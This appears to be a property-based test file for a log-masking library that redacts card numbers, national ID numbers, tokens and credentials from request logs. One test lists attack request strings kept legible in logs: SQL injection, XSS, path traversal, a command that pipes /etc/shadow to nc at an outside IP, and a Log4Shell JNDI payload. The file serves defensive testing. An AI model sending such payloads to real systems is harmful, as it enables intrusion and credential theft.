import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { isLuhn, isMyNumber, isResidentNumber } from "./checksums.ts";
import { maskCapped, maskLogged, maskText } from "./mask-text.ts";

const digits = (length: number) =>
  fc.array(fc.integer({ min: 0, max: 9 }), { minLength: length, maxLength: length }).map((all) => all.join(""));
const two = (n: number) => String(n).padStart(2, "0");

/** Completes a number with the only last digit that makes it valid; undefined where none does. */
function completed(body: string, valid: (digits: string) => boolean): string {
  return Array.from({ length: 10 }, (_, digit) => `${body}${digit}`).find(valid) ?? "";
}

const card = digits(15)
  .map((body) => completed(`4${body.slice(1)}`, isLuhn))
  .filter((number) => number !== "");
const birth = fc
  .tuple(digits(2), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 28 }), fc.integer({ min: 1, max: 8 }))
  .map(([year, month, day, kind]) => `${year}${two(month)}${two(day)}${kind}`);
const resident = fc
  .tuple(birth, digits(5))
  .map(([start, rest]) => completed(`${start}${rest}`, isResidentNumber))
  .filter((number) => number !== "");
const myNumber = digits(11)
  .map((body) => completed(body, isMyNumber))
  .filter((number) => number !== "");
const word = fc.stringMatching(/^[a-z]{3,12}$/);
const email = fc.tuple(word, word).map(([name, host]) => `${name}@${host}.co.kr`);
const jwt = fc
  .tuple(fc.base64String({ minLength: 12, maxLength: 40 }), fc.base64String({ minLength: 12, maxLength: 40 }))
  .map((parts) => `eyJ${parts.map((part) => part.replace(/[+/=]/g, "a")).join(".eyJ")}.c2ln`);
const awsKey = fc.stringMatching(/^AKIA[0-9A-Z]{16}$/);
const gitToken = fc.stringMatching(/^ghp_[A-Za-z0-9]{36}$/);
const secrets = fc.oneof(card, resident, myNumber, email, jwt, awsKey, gitToken);
const around = fc.stringMatching(/^[a-z /?<>()'"]{0,20}$/);
const name = fc.constantFrom(
  "password",
  "user[password]",
  "passwd",
  "pwd",
  "access_token",
  "api_key",
  "apiKey",
  "sessionid",
  "PHPSESSID",
  "client_secret",
  "sig",
  "ocp-apim-subscription-key",
);
const value = fc
  .string({ minLength: 6, maxLength: 30, unit: "grapheme-ascii" })
  .filter((text) => !/[&=%[\]]/.test(text) && text.trim().length > 5);

describe("masking", () => {
  test("no secret with a form of its own gets through, however it is surrounded or encoded", () => {
    fc.assert(
      fc.property(around, secrets, around, fc.integer({ min: 0, max: 3 }), (before, secret, after, rounds) => {
        let logged = `${before} ${secret} ${after}`;
        for (let round = 0; round < rounds; round++) logged = encodeURIComponent(logged);
        expect(maskLogged(logged)).not.toContain(secret);
        expect(maskLogged(logged.toLowerCase())).not.toContain(secret.toLowerCase());
        expect(maskLogged(fullyEncoded(secret))).not.toContain(fullyEncoded(secret));
      }),
      { numRuns: 500 },
    );
  });

  test("the value of a secret parameter never gets through", () => {
    fc.assert(
      fc.property(name, value, around, (key, secret, after) => {
        for (const text of [
          `/login?user=kim&${key}=${secret}`,
          `/login?${key}=${encodeURIComponent(secret)}&next=${encodeURIComponent(after)}`,
          `/q?body=${encodeURIComponent(`a=1&${key}=${secret}`)}`,
        ]) {
          expect(maskLogged(text)).not.toContain(secret);
          expect(maskLogged(text)).not.toContain(encodeURIComponent(secret));
        }
      }),
      { numRuns: 500 },
    );
  });

  test("numbers are found with the separators that people write", () => {
    expect(maskText("a=4111-1111-1111-1111&b=1")).toBe("a=[card]&b=1");
    expect(maskText("a=4111%201111%201111%201111")).toBe("a=[card]");
    expect(maskText("x 5500 0000 0000 0004 99 y")).toBe("x [card] 99 y");
    expect(maskText("/u/900101-1234567/")).toBe("/u/[resident-number]/");
    expect(maskText("n=1234-5678-9018")).toBe("n=[my-number]");
    expect(maskText("４１１１１１１１１１１１１１１１")).toBe("[card]");
  });

  test("headers lose their credentials", () => {
    expect(maskText("Authorization: Basic a2ltOmdlaGVpbQ==\nHost: x")).toBe("Authorization: [secret]\nHost: x");
    expect(maskText("GET /?h=Bearer%20abcdef123456")).toBe("GET /?h=Bearer%20[secret]");
    expect(maskText("/shop;jsessionid=0F3A99?item=1")).toBe("/shop;jsessionid=[secret]?item=1");
    expect(maskText('{"password":"hunter\\"2","user":"kim"}')).toBe('{"password":"[secret]","user":"kim"}');
    expect(maskText("https://kim:geheim@shop.example/")).toBe("https://kim:[secret]@shop.example/");
  });

  test.each([
    "/product?id=1' UNION SELECT username,2,3 FROM users--",
    "/search?q=<script>alert(document.domain)</script>",
    "/download?file=../../../../etc/passwd",
    "/api?cmd=;cat /etc/shadow|nc 203.0.113.7 4444",
    `/?x=$${"{jndi:ldap://203.0.113.9:1389/a}"}`,
    "/orders/20261101123456/items?page=2&sort=desc",
    "id=0x53454c45435420404076657273696f6e2c757365722829",
  ])("attacks and ordinary requests stay legible: %s", (text) => {
    expect(maskLogged(text)).toBe(text);
  });

  test("masking twice changes nothing, and nothing is longer than its cap", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(around, secrets, name, fc.constant("=")), { maxLength: 8 }), (parts) => {
        const once = maskText(parts.join(""));
        expect(maskText(once)).toBe(once);
        expect(maskCapped(parts.join("").repeat(3), 60).length).toBeLessThanOrEqual(60);
      }),
    );
  });

  test("what is cut off is cut after masking, and half a secret at a cut is dropped", () => {
    expect(maskCapped(`${"a ".repeat(20)}4111111111111111`, 45)).toBe(`${"a ".repeat(20)}[car…`);
    const cut = `${"a ".repeat(1000)}kim@example`;
    expect(maskCapped(cut, 2048, cut.length)).not.toContain("kim@");
  });
});

function fullyEncoded(text: string): string {
  return [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
}
